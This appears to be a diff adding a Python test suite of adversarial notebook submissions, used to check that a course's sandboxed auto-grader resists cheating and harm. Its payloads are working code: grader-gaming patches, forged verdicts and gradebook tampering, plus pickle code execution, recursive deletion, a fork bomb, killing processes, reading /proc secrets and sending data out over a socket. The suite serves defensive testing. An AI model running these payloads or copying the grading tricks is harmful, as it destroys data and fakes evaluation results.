@@ -1,0 +1,691 @@
+"""Submissions that try to earn a point they are not due, or to do harm. Lesson 00: one exercise, one point.
+
+Each is a wrong answer and a trick. `told` stands in what the teacher reads about it. `python tests/classroom/attacks.py`
+writes the table of docs/grading.md.
+"""
+
+import copy
+import json
+import os
+import re
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+
+LESSON = "00-start-here"
+PAGE = Path(__file__).parents[2] / "docs" / "grading.md"
+WRONG = "import torch\n\ndef cosine(a, b):\n    return a @ b.T\n"
+RIGHT = "import torch\n\ndef cosine(a, b):\n    return torch.nn.functional.cosine_similarity(a[:, None], b[None], dim=-1)\n"
+DOT = "These are dot products"
+FRAME = """
+    import os
+    from peftlab.classroom import wire
+    def send(data):
+        for fd in range(3, 64):
+            try:
+                os.write(fd, data)
+            except OSError:
+                pass
+"""
+
+
+@dataclass
+class Attack:
+    tries: str  # what it tries, for the table
+    told: str  # what is said of it
+    code: str = ""  # put behind the wrong answer, in the cell of the answer; {repo}, {course}, {port} are filled in
+    change: object = None  # or: what becomes of the notebook, given as a dict: a dict, bytes, or None once written
+    only: bool = False  # the code alone, without the wrong answer before it
+    needs_files: bool = False  # held off by a closed file system, which not every kernel gives without bubblewrap
+
+    def write(self, released, path, **places):
+        notebook = copy.deepcopy(released)
+        if self.change:
+            notebook = self.change(notebook, path)
+        else:
+            code = textwrap.dedent(self.code).strip()
+            for name, value in places.items():
+                code = code.replace("{" + name + "}", str(value))
+            answer(notebook, code + "\n" if self.only else WRONG + "\n" + code + "\n")
+        if notebook is not None:
+            path.write_bytes(notebook if isinstance(notebook, bytes) else json.dumps(notebook).encode())
+
+
+def cell(notebook, id):
+    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == id)
+
+
+def answer(notebook, text):
+    cell(notebook, "cosine")["source"] = text
+    return notebook
+
+
+def wrong(change):
+    """A change of a notebook whose answer is wrong."""
+
+    def changed(notebook, path):
+        answer(notebook, WRONG)
+        return change(notebook) or notebook
+
+    return changed
+
+
+# ---------------------------------------------------------------- changes of the notebook
+
+
+def _locked(notebook):
+    cell(notebook, "cosine-check")["source"] = "print('correct')"
+
+
+def _points(notebook):
+    cell(notebook, "cosine-check")["metadata"]["nbgrader"].update(points=100, grade=False, locked=False)
+
+
+def _swapped(notebook):
+    check, own = cell(notebook, "cosine-check"), cell(notebook, "cosine")
+    check["metadata"]["nbgrader"]["grade_id"], own["metadata"]["nbgrader"]["grade_id"] = "cosine", "cosine-check"
+
+
+def _renamed(notebook):
+    cell(notebook, "cosine")["metadata"]["nbgrader"]["grade_id"] = "cosine-by-heart"
+
+
+def _duplicated(notebook):
+    one = cell(notebook, "cosine")
+    notebook["cells"].insert(3, {**copy.deepcopy(one), "id": "another", "source": RIGHT})
+
+
+def _score(notebook):
+    notebook["metadata"]["nbgrader"] = {"score": 1}
+    cell(notebook, "cosine")["metadata"]["nbgrader"] |= {"points": 1, "grade": True, "score": 1, "auto_score": 1}
+
+
+def _outputs(notebook):
+    text = {"output_type": "stream", "name": "stdout", "text": "✓ cosine: correct."}
+    cell(notebook, "cosine-check")["outputs"] = [text]
+
+
+def _markdown(notebook):
+    cell(notebook, "cosine")["cell_type"] = "markdown"
+
+
+def _sources(notebook):
+    cell(notebook, "cosine")["source"] = {"def cosine": 1}
+
+
+def _odd_cells(notebook):
+    notebook["cells"] += [None, 7, [], {}, {"metadata": None}, {"metadata": {"nbgrader": {"grade_id": ["cosine"]}}}]
+
+
+def _other_lesson(notebook, path):
+    source = Path(__file__).parents[2] / "notebooks" / "01-what-fine-tuning-costs.ipynb"
+    return source.read_bytes()
+
+
+def _link(notebook, path):
+    os.symlink(path.parents[2] / "000-honest" / LESSON / path.name, path)
+
+
+def _pipe(notebook, path):
+    os.mkfifo(path)
+
+
+def _folder(notebook, path):
+    path.mkdir()
+
+
+ATTACKS = {
+    # ------------------------------------------------------------ to be told it was right
+    "patched-check": Attack(
+        "replaces `check`, the comparison and `verdict`",
+        DOT,
+        """
+        import peftlab.classroom.checking as c, peftlab.classroom.compare as d
+        c.check = lambda *a, **k: c.Result("cosine", "correct")
+        c.verdict = lambda *a: c.Result("cosine", "correct")
+        c.difference = d.difference = c._first_difference = lambda *a: None
+        """,
+    ),
+    "patched-result": Attack(
+        "makes every result true and its `grade` do nothing",
+        DOT,
+        """
+        from peftlab.classroom.checking import Result
+        Result.__bool__ = lambda self: True
+        Result.grade = lambda self: None
+        """,
+    ),
+    "patched-observations": Attack(
+        "replaces the function that observes",
+        "no observation of this exercise",
+        """
+        import peftlab.classroom.checking as c
+        c.observations = lambda *a: []
+        """,
+    ),
+    "patched-look": Attack(
+        "replaces how this exercise is looked at",
+        "similarities",
+        """
+        from peftlab.classroom import find
+        find("cosine").look = lambda answer, case: {"similarities": torch.ones(1, 1), "changed in place": []}
+        """,
+    ),
+    "patched-cases": Attack(
+        "draws inputs of its own, where the wrong answer is right",
+        "shape",
+        """
+        from peftlab.classroom import find, exercise
+        one = {"a": torch.eye(2), "b": torch.eye(2)}
+        find("cosine").draw = lambda seed: [exercise.Case("mine", tensors=one)] * 3
+        """,
+    ),
+    "own-seed": Attack(
+        "reaches up the frames and changes the seed of the inputs",
+        "shape|difference|dot products",
+        """
+        import sys
+        frame = sys._getframe()
+        while frame:
+            if isinstance(frame.f_locals.get("job"), dict):
+                frame.f_locals["job"]["seed"] = 0
+            frame = frame.f_back
+        """,
+    ),
+    "patched-torch": Attack(
+        "makes torch call everything equal and close",
+        DOT,
+        """
+        torch.equal = torch.allclose = torch.Tensor.equal = torch.Tensor.allclose = lambda *a, **k: True
+        torch.Tensor.__eq__ = torch.Tensor.__le__ = torch.Tensor.__lt__ = lambda *a: True
+        torch.Tensor.abs = lambda self: self * 0
+        """,
+    ),
+    "patched-builtins": Attack(
+        "replaces `zip`, `all`, `isinstance` and `type`",
+        "Nothing is known",
+        """
+        import builtins
+        builtins.all = builtins.any = builtins.isinstance = lambda *a: True
+        builtins.zip = lambda *a, **k: []
+        """,
+    ),
+    "patched-wire": Attack(
+        "replaces the way results are written down",
+        "can't be read|no observation|Nothing is known",
+        """
+        from peftlab.classroom import wire
+        wire.pack = lambda frame: b'\\0\\0\\0\\x10\\0\\0\\0\\0{"state":"right"}'
+        """,
+    ),
+    "tensor-subclass": Attack(
+        "answers with a tensor subclass that claims to be close to anything",
+        DOT,
+        """
+        class Close(torch.Tensor):
+            @classmethod
+            def __torch_function__(cls, f, types, args=(), kwargs=None):
+                if f.__name__ in ("allclose", "equal", "__eq__", "isclose"):
+                    return True
+                return super().__torch_function__(f, types, args, kwargs or {})
+        def cosine(a, b):
+            return (a @ b.T).as_subclass(Close)
+        """,
+    ),
+    "equal-to-all": Attack(
+        "answers with an object whose `__eq__` is always true",
+        "gave a Yes",
+        """
+        class Yes:
+            shape, dtype = (3, 5), torch.float32
+            def __eq__(self, other):
+                return True
+            def __getattr__(self, name):
+                return lambda *a, **k: self
+        def cosine(a, b):
+            return Yes()
+        """,
+    ),
+    "equal-inside": Attack(
+        "has strings and lists observed whose `__eq__` is always true",
+        "similarities",
+        """
+        from peftlab.classroom import find
+        class Text(str):
+            __eq__ = lambda self, other: True
+            __hash__ = str.__hash__
+        class List(list):
+            __eq__ = lambda self, other: True
+        find("cosine").look = lambda answer, case: {"similarities": Text("x"), "changed in place": List()}
+        """,
+    ),
+    "not-a-number": Attack(
+        "answers NaN everywhere, which no comparison holds against",
+        "difference is inf|nan",
+        """
+        def cosine(a, b):
+            return a @ b.T * float("nan")
+        """,
+    ),
+    "pickled": Attack(
+        "answers with an object that runs code where it is unpickled",
+        "gave a Bomb",
+        """
+        import os
+        class Bomb:
+            def __reduce__(self):
+                return os.system, ("touch {course}/gotcha",)
+        def cosine(a, b):
+            return Bomb()
+        """,
+    ),
+    # ------------------------------------------------------------ to find the answer
+    "reference": Attack(
+        "asks the exercise for its reference",
+        "IndexError",
+        """
+        from peftlab.classroom import find
+        cosine = find("cosine").reference
+        """,
+        only=True,
+    ),
+    "imported-solution": Attack(
+        "imports a solution by its name",
+        "cannot import name",
+        "from peftlab.classroom.exercises.lesson00 import normalise_then_multiply as cosine",
+        only=True,
+    ),
+    "solution-from-the-package": Attack(
+        "runs the file of exercises where the teacher has it",
+        "Error",
+        """
+        place = {"__name__": "peftlab.classroom.exercises.again", "__package__": "peftlab.classroom.exercises"}
+        text = open("{repo}/peftlab/classroom/exercises/lesson00.py").read().replace('"cosine"', '"again"', 1)
+        exec(text.split("nearest = ")[0], place)
+        cosine = place["normalise_then_multiply"]
+        """,
+        only=True,
+        needs_files=True,
+    ),
+    "solution-from-the-notebook": Attack(
+        "takes the solved notebook from the teacher's disk",
+        "Error",
+        """
+        import json
+        for cell in json.load(open("{repo}/notebooks/00-start-here.ipynb"))["cells"]:
+            if "BEGIN SOLUTION" in "".join(cell["source"]):
+                exec("".join(cell["source"]))
+        """,
+        only=True,
+        needs_files=True,
+    ),
+    "another-submission": Attack(
+        "takes another student's answer from the folder",
+        "Error",
+        """
+        import json
+        for cell in json.load(open("{course}/submitted/000-honest/00-start-here/00-start-here.ipynb"))["cells"]:
+            if "def cosine" in "".join(cell["source"]):
+                exec("".join(cell["source"]))
+        """,
+        only=True,
+        needs_files=True,
+    ),
+    "from-memory": Attack(
+        "searches memory for a solution and for the submissions graded before",
+        "nothing found",
+        """
+        import gc, types
+        for thing in gc.get_objects():
+            if type(thing) is types.FunctionType and thing.__name__ == "normalise_then_multiply":
+                cosine = thing
+            elif type(thing) is dict and "theirs" in thing.get("cells", ()):
+                exec(thing["cells"])
+        if cosine(torch.ones(1, 2), torch.ones(1, 2)) > 1.5:
+            def cosine(a, b):
+                raise LookupError("nothing found")
+        """,
+    ),
+    "from-frames": Attack(
+        "looks for the expected values in the frames above it",
+        "nothing found",
+        """
+        import sys
+        def cosine(a, b):
+            frame = sys._getframe()
+            while frame:
+                for name in ("expected", "reference", "truth"):
+                    if name in frame.f_locals or hasattr(frame.f_locals.get("case"), name):
+                        return frame.f_locals[name]
+                frame = frame.f_back
+            raise LookupError("nothing found")
+        """,
+        only=True,
+    ),
+    # ------------------------------------------------------------ to write the result itself
+    "forged-verdict": Attack(
+        "writes to every open file that it was correct",
+        "answered 2 times",
+        FRAME + """
+    send(wire.pack({"exercise": "cosine", "state": "correct", "points": 1}))
+    """,
+    ),
+    "forged-observation": Attack(
+        "writes an observation before the true one and leaves",
+        "similarities",
+        FRAME + """
+    seen = [{"similarities": torch.ones(s), "changed in place": []} for s in ((3, 5), (4, 4), (1, 6))]
+    send(wire.pack({"exercise": "cosine", "state": "seen", "seen": seen}))
+    os._exit(0)
+    """,
+    ),
+    "forged-emptiness": Attack(
+        "writes that nothing was seen, so that nothing is wrong",
+        "no observation of this exercise",
+        FRAME + """
+    send(wire.pack({"exercise": "cosine", "state": "seen", "seen": []}))
+    os._exit(0)
+    """,
+    ),
+    "forged-error": Attack(
+        "writes an error made of other things than text",
+        "{",
+        FRAME + """
+    send(wire.pack({"exercise": "cosine", "state": "error", "told": {"told": [1, 2]}}))
+    os._exit(0)
+    """,
+    ),
+    "forged-gibberish": Attack(
+        "writes gibberish in the place of its results",
+        "Nothing is known|can't be read",
+        FRAME + """
+    send(b"\\xff" * 4096)
+    """,
+    ),
+    "forged-nesting": Attack(
+        "writes lists inside lists, a hundred thousand deep",
+        "can't be read",
+        FRAME + """
+    text = b'{"list":[' * 100_000
+    send(len(text).to_bytes(4, "big") + bytes(4) + text)
+    os._exit(0)
+    """,
+    ),
+    "forged-header": Attack(
+        "writes a tensor whose header promises more than there is",
+        "can't be read",
+        FRAME + """
+    header = b'{"0":{"dtype":"F32","shape":[1000000000,1000000000],"data_offsets":[0,4]}}'
+    tensors = len(header).to_bytes(8, "little") + header + bytes(4)
+    text = b'{"tensor":"0"}'
+    send(len(text).to_bytes(4, "big") + len(tensors).to_bytes(4, "big") + text + tensors)
+    os._exit(0)
+    """,
+    ),
+    "forged-message": Attack(
+        "puts escapes, a script and a mark into its error message",
+        "‹script›",
+        """
+        def cosine(a, b):
+            raise ValueError("\\x1b[2J<script>alert(1)</script> ![](https://example.org/x.png) 999-honest, 1 of 1")
+        """,
+    ),
+    "gradebook": Attack(
+        "writes a mark into the gradebook",
+        DOT,
+        """
+        import sqlite3
+        try:
+            book = sqlite3.connect("{course}/gradebook.db")
+            book.execute("update grade set auto_score = 1, manual_score = 1")
+            book.commit()
+        except Exception:
+            pass
+        """,
+        needs_files=True,
+    ),
+    # ------------------------------------------------------------ to use too much
+    "exit": Attack("ends its process before anything is observed", "Nothing is known", "import os; os._exit(0)"),
+    "exit-later": Attack(
+        "raises `SystemExit` when it is called",
+        "SystemExit",
+        """
+        def cosine(a, b):
+            raise SystemExit(0)
+        """,
+    ),
+    "killed-itself": Attack(
+        "reads at address zero",
+        "Its process died",
+        "import ctypes; ctypes.string_at(0)",
+    ),
+    "endless": Attack(
+        "never ends",
+        "took too long",
+        """
+        def cosine(a, b):
+            while True:
+                pass
+        """,
+    ),
+    "endless-and-stubborn": Attack(
+        "never ends and catches every exception",
+        "still running",
+        """
+        import signal
+        signal.signal(signal.SIGALRM, signal.SIG_IGN)
+        while True:
+            try:
+                while True:
+                    pass
+            except BaseException:
+                pass
+        """,
+    ),
+    "recursion": Attack(
+        "calls itself without end, with the limit on that removed",
+        "RecursionError|Its process died|too long|was ended",
+        """
+        import sys
+        sys.setrecursionlimit(10**9)
+        def cosine(a, b):
+            return cosine(a, b)
+        """,
+    ),
+    "fork-bomb": Attack(
+        "forks without end",
+        "processes and was ended|BlockingIOError|took too long",
+        """
+        import os
+        while True:
+            os.fork()
+        """,
+    ),
+    "left-behind": Attack(
+        "leaves a process behind that outlives it",
+        DOT,
+        """
+        import subprocess
+        subprocess.Popen(["sleep", "86399"], start_new_session=True, stdout=subprocess.DEVNULL)
+        """,
+    ),
+    "thread": Attack(
+        "leaves a thread running that never ends",
+        DOT,
+        """
+        import threading, time
+        threading.Thread(target=lambda: time.sleep(1e6)).start()
+        """,
+    ),
+    "memory": Attack(
+        "asks for a hundred gigabytes",
+        "allocate|MemoryError",
+        """
+        def cosine(a, b):
+            return torch.ones(100, 2**30)
+        """,
+    ),
+    "memory-in-pieces": Attack(
+        "takes memory in several processes, each within its limit",
+        "GB of memory and was ended|MemoryError",
+        """
+        import os, time
+        for _ in range(6):
+            if os.fork() == 0:
+                much = bytearray(b"x") * 600_000_000
+                time.sleep(60)
+        time.sleep(60)
+        """,
+    ),
+    "output": Attack(
+        "prints a gigabyte",
+        "File too large",
+        """
+        def cosine(a, b):
+            for _ in range(1024):
+                print("x" * 2**20, flush=True)
+        """,
+    ),
+    "results-without-end": Attack(
+        "writes results without end",
+        "more than a notebook has to say",
+        FRAME + """
+    while True:
+        send(bytes(2**20))
+    """,
+    ),
+    "large-file": Attack(
+        "fills the disk with one file",
+        "File too large",
+        """
+        def cosine(a, b):
+            with open("big", "wb") as file:
+                for _ in range(1000):
+                    file.write(bytes(2**20))
+        """,
+    ),
+    "large-observation": Attack(
+        "answers with a tensor of a hundred megabytes",
+        "more than a notebook has to say|shape",
+        """
+        def cosine(a, b):
+            return torch.zeros(25_000_000)
+        """,
+    ),
+    "long-cell": Attack(
+        "hands in a cell of ten million characters",
+        "longer than",
+        change=lambda notebook, path: answer(notebook, WRONG + "# " + "x" * 10_000_000),
+    ),
+    "parentheses": Attack(
+        "hands in ninety thousand open parentheses",
+        "SyntaxError|MemoryError|RecursionError",
+        change=lambda notebook, path: answer(notebook, "cosine = " + "(" * 90_000),
+    ),
+    # ------------------------------------------------------------ to do harm
+    "deletes": Attack(
+        "deletes the course, submissions and all",
+        DOT,
+        """
+        import shutil
+        shutil.rmtree("{course}", ignore_errors=True)
+        shutil.rmtree("/tmp", ignore_errors=True)
+        """,
+        needs_files=True,
+    ),
+    "overwrites": Attack(
+        "writes into torch and into the package, for those who come after",
+        DOT,
+        """
+        import peftlab, glob, os
+        for path in [torch.__file__, *glob.glob(os.path.dirname(peftlab.__file__) + "/**/*.py", recursive=True)]:
+            try:
+                open(path, "a").write("\\nraise SystemExit('gotcha')\\n")
+            except OSError:
+                pass
+        """,
+        needs_files=True,
+    ),
+    "kills": Attack(
+        "kills every process it can reach, the grader first",
+        DOT + "|Its process died|Nothing is known",
+        """
+        import os, signal
+        for pid in [os.getppid(), *range(2, 70_000)]:
+            try:
+                if pid != os.getpid():
+                    os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+        """,
+        needs_files=True,
+    ),
+    "looks-into-the-grader": Attack(
+        "reads the memory and the environment of other processes",
+        "nothing to read",
+        """
+        import glob
+        def cosine(a, b):
+            for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem"):
+                try:
+                    if open(path, "rb").read(1) and str(__import__("os").getpid()) not in path:
+                        return a @ b.T
+                except OSError:
+                    pass
+            raise LookupError("nothing to read")
+        """,
+        needs_files=True,
+    ),
+    "network": Attack(
+        "sends what it knows to a machine outside",
+        "Error",
+        """
+        import socket
+        def cosine(a, b):
+            with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+                s.sendall(b"the seed and the inputs")
+        """,
+    ),
+    # ------------------------------------------------------------ notebooks that are none
+    "broken-json": Attack("is cut off in the middle", "no notebook", change=lambda n, p: json.dumps(n).encode()[:5000]),
+    "wrong-encoding": Attack("is written in UTF-16", "no notebook", change=lambda n, p: json.dumps(n).encode("utf-16")),
+    "empty-file": Attack("is an empty file", "it is empty", change=lambda n, p: b""),
+    "a-list": Attack("is JSON, and no notebook", "no notebook", change=lambda n, p: b"[1, 2, 3]"),
+    "nested": Attack("is lists inside lists", "no notebook", change=lambda n, p: b"[" * 200_000),
+    "odd-cells": Attack("has cells that are no cells", DOT, change=wrong(_odd_cells)),
+    "odd-source": Attack("has a source that is no text", "holds no code", change=wrong(_sources)),
+    "no-notebook": Attack("is an empty folder", "There is no", change=lambda n, p: None),
+    "folder": Attack("is a folder with the notebook's name", "not a file|can't be opened", change=_folder),
+    "link": Attack("is a link to another student's notebook", "is a link", change=_link),
+    "pipe": Attack("is a named pipe, which blocks whoever opens it", "not a file", change=_pipe),
+    "other-lesson": Attack("is another lesson's notebook", "another lesson", change=_other_lesson),
+    # ------------------------------------------------------------ notebooks that were tampered with
+    "locked-cell": Attack("replaces the locked cell of the check", "was changed. Ours is used", change=wrong(_locked)),
+    "points": Attack("makes the check worth 100 points, and unlocks it", "metadata of cosine-check", change=wrong(_points)),
+    "swapped": Attack("swaps the names of the answer and of its check", "was changed", change=wrong(_swapped)),
+    "renamed": Attack("renames the cell of the answer", "There is no cell cosine", change=wrong(_renamed)),
+    "duplicated": Attack("has the cell twice, right and wrong", "only the last counts", change=wrong(_duplicated)),
+    "score": Attack("writes a score into its metadata", DOT, change=wrong(_score)),
+    "outputs": Attack("pastes the card of a correct answer as an output", DOT, change=wrong(_outputs)),
+    "markdown": Attack("makes the answer a text cell", "holds no code", change=wrong(_markdown)),
+}
+
+
+def table():
+    rows = [f"| `{name}` | {a.tries} | {_said(a.told)} |" for name, a in ATTACKS.items()]
+    return "\n".join(["| attack | a wrong answer that … | what the teacher reads holds |", "| --- | --- | --- |", *rows])
+
+
+def _said(told):
+    return " or ".join(f"*{part}*" for part in told.split("|"))
+
+
+def page():
+    """docs/grading.md with its table brought up to date."""
+    text = PAGE.read_text(encoding="utf-8")
+    table_ = f"<!-- attacks -->\n{len(ATTACKS)} of them:\n\n{table()}\n<!-- end -->"
+    return re.sub(r"<!-- attacks -->.*?<!-- end -->", lambda _: table_, text, flags=re.DOTALL)
+
+
+if __name__ == "__main__":
+    PAGE.write_text(page(), encoding="utf-8")
